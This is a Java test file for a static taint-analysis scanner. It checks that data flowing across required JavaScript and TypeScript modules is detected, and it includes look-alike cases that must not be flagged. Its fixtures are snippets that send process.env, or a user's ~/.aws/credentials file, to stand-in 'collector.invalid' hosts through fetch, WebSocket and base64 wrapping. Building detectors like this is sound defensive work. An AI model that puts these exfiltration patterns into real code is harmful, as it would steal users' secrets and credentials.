package dev.assay.extract.component;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.assay.engine.fact.TaintFlow;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * JavaScript/TypeScript flows through a required local module: the source in one file, the sink in the other, both
 * named. Look-alikes that must stay quiet: a module that only logs, a module of the same name outside the component,
 * a package in node_modules. Hosts are .invalid.
 */
class ScriptTaintAcrossModulesTest {

    private static final String POST_MODULE = "async function post(data) {\n"
            + "  await fetch('https://collector.invalid/c', {method: 'POST', body: data});\n"
            + "}\n"
            + "module.exports = { post };\n";

    /** "source@sourceFile:line->sink:callee@file:line", in emitted order. */
    private static List<String> flows(Scan scan) {
        return scan.all(TaintFlow.class).stream()
                .map(t -> t.source() + "@" + t.sourceFile() + ":" + t.sourceLine() + "->" + t.sink() + ":"
                        + t.sinkCallee() + "@" + t.file() + ":" + t.line())
                .collect(Collectors.toList());
    }

    @Test
    void environmentPassedToAFunctionOfARequiredModuleThatPostsIt(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "index.js", "const h = require('./lib/send');\n"
                        + "async function main() {\n"
                        + "  await h.post(JSON.stringify(process.env));\n"
                        + "}\n",
                "lib/send.js", POST_MODULE));
        assertEquals(List.of("env@index.js:3->network:fetch@lib/send.js:2"), flows(scan));
        TaintFlow flow = scan.all(TaintFlow.class).get(0);
        assertEquals("index.js", flow.sourceEvidence().file());
        assertEquals("index.js:3", flow.sourceAt());
        assertEquals("lib/send.js:2", flow.sinkAt());
    }

    @Test
    void typeScriptNamedImportOfAJsSpecifierResolvesToTheTsSource(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "src/main.ts", "import { upload as send } from './net.js';\n"
                        + "const snapshot = {...process.env};\n"
                        + "send('https://collector.invalid/u', snapshot);\n",
                "src/net.ts", "export const upload = async (url: string, body: object) => {\n"
                        + "  const ws = new WebSocket(url);\n"
                        + "  ws.send(JSON.stringify(body));\n"
                        + "};\n"));
        assertEquals(List.of("env@src/main.ts:2->network:ws.send@src/net.ts:3"), flows(scan));
    }

    @Test
    void credentialFileReadAndReturnedByAModuleIsPostedByTheCaller(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "lib/index.js", "const fs = require('fs');\n"
                        + "const os = require('os');\n"
                        + "const path = require('path');\n"
                        + "exports.readProfile = () =>\n"
                        + "  fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n",
                "run.js", "const { readProfile } = require('./lib');\n"
                        + "async function sync() {\n"
                        + "  const profile = readProfile();\n"
                        + "  await fetch('https://collector.invalid/p', {method: 'PUT', body: profile});\n"
                        + "}\n"));
        assertEquals(List.of("credential-file@lib/index.js:5->network:fetch@run.js:4"), flows(scan));
    }

    @Test
    void defaultExportedFunctionAndValuesThatPassThroughAModule(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "send.mjs", "export default async function (payload) {\n"
                        + "  await fetch('https://collector.invalid/d', {method: 'POST', body: payload});\n"
                        + "}\n",
                "wrap.mjs", "export function wrap(x) { return {blob: Buffer.from(JSON.stringify(x)).toString('base64')}; }\n",
                "main.mjs", "import send from './send.mjs';\n"
                        + "import * as w from './wrap.mjs';\n"
                        + "const packed = w.wrap(process.env);\n"
                        + "await fetch('https://collector.invalid/w', {method: 'POST', body: JSON.stringify(packed)});\n"
                        + "await send(packed);\n"));
        // through wrap (one file), and through wrap then into send (the caller's source, send's sink)
        assertEquals(List.of("env@main.mjs:3->network:fetch@main.mjs:4", "env@main.mjs:3->network:fetch@send.mjs:2"),
                flows(scan).stream().sorted().collect(Collectors.toList()));
    }

    // ---- look-alikes

    @Test
    void aModuleThatOnlyLogsIsNoFlow(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "index.js", "const log = require('./log');\n"
                        + "log.debug(JSON.stringify(process.env));\n"
                        + "log(process.env);\n",
                "log.js", "function debug(x) { console.log(x); }\n"
                        + "module.exports = function (x) { console.error(x); return 0; };\n"
                        + "module.exports.debug = debug;\n"));
        assertEquals(List.of(), flows(scan));
    }

    @Test
    void aModuleOfTheSameNameOutsideTheComponentIsNotFollowed(@TempDir Path dir) {
        Scan.write(dir, "send.js", POST_MODULE.getBytes(StandardCharsets.UTF_8));
        Scan scan = Scan.files(dir.resolve("skill"), Map.of(
                "index.js", "const h = require('../send');\n"
                        + "h.post(JSON.stringify(process.env));\n"));
        assertEquals(List.of(), flows(scan));
    }

    @Test
    void aPackageInNodeModulesIsNotALocalModule(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "index.js", "const h = require('send');\n"
                        + "import { post } from 'send/lib/post.js';\n"
                        + "h.post(JSON.stringify(process.env));\n"
                        + "post(process.env);\n",
                "node_modules/send/index.js", POST_MODULE,
                "node_modules/send/lib/post.js", "export " + POST_MODULE.replace("module.exports = { post };\n", "")));
        assertEquals(List.of(), flows(scan));
    }

    // caller → relay → sender: the relay hands its parameter to a function of a third module, which posts it
    @Test
    void aFlowThroughARelayModuleReachesTheSendingModulesSink(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "a.js", "const b = require('./b');\n"
                        + "b.relay(JSON.stringify(process.env));\n",
                "b.js", "const c = require('./lib/c');\n"
                        + "function relay(d) { c.post('x', d); }\n"
                        + "module.exports = { relay };\n",
                "lib/c.js", "async function post(tag, data) {\n"
                        + "  await fetch('https://collector.invalid/c', {method: 'POST', body: data});\n"
                        + "}\n"
                        + "module.exports = { post };\n"));
        assertEquals(List.of("env@a.js:2->network:fetch@lib/c.js:2"), flows(scan));
    }

    // Look-alikes of the relay: it passes something else than the caller's value on, or the sending module's tainted
    // parameter is not the one the relay fills.
    @Test
    void aRelayThatDoesNotPassTheValueOnIsNoFlow(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "a.js", "const b = require('./b');\n"
                        + "b.relay(JSON.stringify(process.env));\n",
                "b.js", "const c = require('./c');\n"
                        + "function relay(d) { console.log(d.length); c.post(d, 'ping'); }\n"
                        + "module.exports = { relay };\n",
                "c.js", "async function post(tag, data) {\n"
                        + "  await fetch('https://collector.invalid/c', {method: 'POST', body: data});\n"
                        + "}\n"
                        + "module.exports = { post };\n"));
        assertEquals(List.of(), flows(scan));
    }

    // Bounded: two relays (a → b → c → d) are not followed, nor is a module's import of itself.
    @Test
    void twoRelaysAndASelfImportAreNotFollowed(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of(
                "a.js", "const b = require('./b');\n"
                        + "b.relay(JSON.stringify(process.env));\n",
                "b.js", "const c = require('./c');\n"
                        + "function relay(d) { c.again(d); }\n"
                        + "module.exports = { relay };\n",
                "c.js", "const d = require('./d');\n"
                        + "function again(x) { d.post(x); }\n"
                        + "module.exports = { again };\n",
                "d.js", "const self = require('./d');\n"
                        + "self.post(process.env);\n" + POST_MODULE));
        assertEquals(List.of(), flows(scan));
    }
}
